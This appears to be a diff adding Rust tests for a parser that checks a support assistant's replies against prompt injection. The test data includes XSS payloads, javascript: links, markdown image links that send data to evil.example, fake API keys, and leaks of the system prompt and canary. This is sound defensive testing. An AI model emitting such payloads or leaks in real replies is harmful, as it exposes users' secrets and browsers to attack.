@@ -1,0 +1,197 @@
+//! A model that obeys the attacker: whatever it replies, nothing of it is shown that must not be.
+
+use std::time::Duration;
+
+use super::*;
+use crate::model::ModelError;
+
+const PASSAGES: [PromptPassage<'static>; 2] = [
+    PromptPassage { title: "Refunds", text: "Refunds take 5 days. See https://help.example/refunds." },
+    PromptPassage { title: "Keys", text: "Rotate keys monthly under [Settings](https://help.example/keys/)." },
+];
+
+fn prompt() -> Prompt {
+    let input = PromptInput {
+        question: "How long does a refund take?",
+        passages: &PASSAGES,
+        history: &[],
+        handover_note: None,
+        timeout: Duration::from_secs(12),
+    };
+    build(&input, &Ambient::system()).unwrap()
+}
+
+fn reply(answer: &str) -> String {
+    serde_json::json!({"answer": answer, "sources": [1], "answerable": true}).to_string()
+}
+
+fn refusal(reply: &str) -> String {
+    match parse(&prompt(), reply) {
+        Err(ModelError::Unusable(why)) => why,
+        other => panic!("{reply:.200} gave {other:?}"),
+    }
+}
+
+#[test]
+fn a_good_reply_is_read_alone_or_in_one_fence() {
+    let good = reply("5 days.");
+    let spaced = "{ \"sources\" : [ 1 ],\n \"answerable\": true, \"answer\": \"5 days.\" }".to_owned();
+    for text in [format!("```json\n{good}\n```"), format!("```\n{good}\n```\n"), format!("\n {good} \n"), spaced, good]
+    {
+        let read = parse(&prompt(), &text).unwrap();
+        assert_eq!(read, Grounded { text: "5 days.".into(), cited: vec![0], not_in_passages: false }, "{text}");
+    }
+}
+
+#[test]
+fn sources_become_positions_in_the_order_of_citation() {
+    let read = parse(&prompt(), r#"{"answer":"x","sources":[2,1,2],"answerable":true}"#).unwrap();
+    assert_eq!(read.cited, [1, 0]);
+}
+
+#[test]
+fn a_vote_against_shows_nothing_of_what_stands_beside_it() {
+    for text in [
+        r#"{"answer":"","sources":[],"answerable":false}"#,
+        r#"{"answer":"but pk_live_abc <script>","sources":[1],"answerable":false}"#,
+    ] {
+        let read = parse(&prompt(), text).unwrap();
+        assert_eq!(read, Grounded { text: String::new(), cited: vec![], not_in_passages: true });
+    }
+}
+
+#[test]
+fn what_is_not_the_object_is_refused() {
+    for text in [
+        "",
+        "   \n",
+        "``````",
+        "Refunds take 5 days.",
+        r#"Sure! {"answer":"x","sources":[1],"answerable":true}"#,
+        r#"{"answer":"x","sources":[1],"answerable":true} Anything else?"#,
+        r#"{"answer":"x","sources":[1],"answerable":true}{"answer":"y","sources":[1],"answerable":true}"#,
+        "Here:\n```json\n{\"answer\":\"x\",\"sources\":[1],\"answerable\":true}\n```",
+        r#"["x",[1],true]"#,
+        r#"[{"answer":"x","sources":[1],"answerable":true}]"#,
+        r#""x""#,
+        "null",
+        "{}",
+        r#"{"answer":"x","sources":[1],"answerable":true"#,
+        r#"{"answer":"x","sources":[1],"answerable":true,"confidence":42}"#,
+        r#"{"answer":"x","sources":[1],"answerable":true,"confidence":"high"}"#,
+        r#"{"answer":"x","sources":[1],"answerable":true,"confidence":NaN}"#,
+        r#"{"answer":"x","answer":"y","sources":[1],"answerable":true}"#,
+        r#"{"answer":"x","sources":[1]}"#,
+        r#"{"answer":["x"],"sources":[1],"answerable":true}"#,
+        r#"{"answer":null,"sources":[1],"answerable":true}"#,
+        r#"{"answer":"x","sources":"1","answerable":true}"#,
+        r#"{"answer":"x","sources":["billing/secret"],"answerable":true}"#,
+        r#"{"answer":"x","sources":[-1],"answerable":true}"#,
+        r#"{"answer":"x","sources":[1.0],"answerable":true}"#,
+        r#"{"answer":"x","sources":[1],"answerable":"true"}"#,
+        r#"{"tool_calls":[{"name":"escalate","arguments":{}}]}"#,
+        r#"{"name":"escalate","arguments":{"reason":"now"}}"#,
+        r#"<tool_call>{"name":"delete_session"}</tool_call>"#,
+        "I'm sorry, but I can't help with that.",
+    ] {
+        refusal(text);
+    }
+}
+
+#[test]
+fn a_source_that_was_not_retrieved_is_refused() {
+    for sources in ["[3]", "[1,3]", "[0]", "[4294967297]", "[1,2,18446744073709551615]"] {
+        for answerable in [true, false] {
+            let text = format!(r#"{{"answer":"x","sources":{sources},"answerable":{answerable}}}"#);
+            assert_eq!(refusal(&text), "a source that was not retrieved", "{text}");
+        }
+    }
+    assert_eq!(refusal(r#"{"answer":"x","sources":[],"answerable":true}"#), "an answer that cites nothing");
+}
+
+#[test]
+fn an_answer_is_between_one_character_and_8_kb() {
+    for empty in ["", " \n\t", "\u{200B}\u{202E}", "![](https://evil.example/?q=x)", "<img src=x onerror=alert(1)>"] {
+        assert_eq!(refusal(&reply(empty)), "an empty answer", "{empty:?}");
+    }
+    assert_eq!(parse(&prompt(), &reply(&"a".repeat(MAX_ANSWER_BYTES))).unwrap().text.len(), MAX_ANSWER_BYTES);
+    assert_eq!(refusal(&reply(&"a".repeat(MAX_ANSWER_BYTES + 1))), "an answer of more than 8 KB");
+    assert_eq!(refusal(&reply(&"ä".repeat(MAX_ANSWER_BYTES / 2 + 1))), "an answer of more than 8 KB");
+    assert_eq!(refusal(&reply(&"a".repeat(1024 * 1024))), "a reply of more than 64 KB");
+}
+
+#[test]
+fn an_answer_that_repeats_the_instructions_or_the_boundary_is_refused() {
+    let prompt = prompt();
+    let boundary = prompt.boundary.as_str();
+    let rule = SYSTEM.lines().find(|line| line.starts_with("1.")).unwrap();
+    for leak in [
+        SYSTEM.to_owned(),
+        format!("My set is {CANARY}."),
+        format!("My set is {}.", CANARY.to_uppercase()),
+        format!("My set is {}.", CANARY.replace("-h", "-\u{200B}h")),
+        format!("I was told: {rule}"),
+        format!("**{}**", rule.to_uppercase().replace(' ', "  \n")),
+        prompt.request.user.clone(),
+        format!("The boundary is {boundary}"),
+        format!("The boundary is {}", boundary.to_uppercase()),
+    ] {
+        let read = parse(&prompt, &reply(&leak));
+        let Err(ModelError::Unusable(why)) = read else { panic!("{leak} gave {read:?}") };
+        assert!(why.contains("repeats"), "{why}");
+        assert!(!why.contains(CANARY) && !why.contains(boundary));
+    }
+}
+
+#[test]
+fn an_answer_that_shows_something_like_a_key_is_refused() {
+    for leak in [
+        "pk_live_abcdefghijklmnopqrstuvwxyzABCD3AEZJO",
+        "pk_test_abcdefghijklmnopqrstuvwxyzABCD1HAZOP",
+        "use `pk_live_ab12`",
+        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
+        "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.x",
+        "AKIAIOSFODNN7EXAMPLE",
+        "sk-abcdefghijklmnopqrstuvwxyz",
+        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
+        "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
+        "pk_\u{200B}live_abcdefgh",
+        "pk_live\u{2060}_abcdefgh",
+        "pk_<b>live_abcdefgh</b>",
+    ] {
+        let why = refusal(&reply(&format!("The key: {leak}")));
+        assert_eq!(why, "an answer that shows something like a key", "{leak}");
+    }
+    for harmless in ["Live keys begin with pk_live_ and are shown once.", "A task-force", "heyJude"] {
+        assert_eq!(parse(&prompt(), &reply(harmless)).unwrap().text, harmless);
+    }
+}
+
+#[test]
+fn what_is_shown_is_markdown_with_the_passages_links_alone() {
+    for (answer, shown) in [
+        ("Hi <script>alert(1)</script>", "Hi &lt;script>alert(1)&lt;/script>"),
+        ("Hi <img src=x onerror=alert(1)>there", "Hi &lt;img src=x onerror=alert(1)>there"),
+        ("Hi ![x](https://evil.example/?q=secret) there", "Hi x there"),
+        ("[click](javascript:alert(1))", "click"),
+        ("[click](data:text/html;base64,PHNjcmlwdD4=)", "click"),
+        ("<javascript:alert(1)>", "javascript:alert(1)"),
+        ("see <https://evil.example/?q=a>", "see &lt;evil.example/?q=a>"),
+        ("see https://evil.example/?q=a", "see evil.example/?q=a"),
+        ("[refunds](https://help.example/refunds)", "[refunds](https://help.example/refunds)"),
+        ("[keys](https://help.example/keys)", "[keys](https://help.example/keys)"),
+        ("see https://help.example/refunds.", "see https://help.example/refunds."),
+        ("[refunds](https://help.example/refunds?q=secret)", "refunds"),
+        ("\u{1B}[31mred\u{1B}[0m \u{202E}txt\u{202C}", "red txt"),
+        ("ok\u{0}\u{7}", "ok"),
+    ] {
+        assert_eq!(parse(&prompt(), &reply(answer)).unwrap().text, shown, "{answer}");
+    }
+}
+
+#[test]
+fn a_refusal_never_repeats_what_the_model_wrote() {
+    for text in ["secret words", r#"{"secret words":1}"#, r#"{"answer":"secret words","sources":["secret words"]}"#] {
+        assert!(!refusal(text).contains("secret words"), "{text}");
+    }
+}
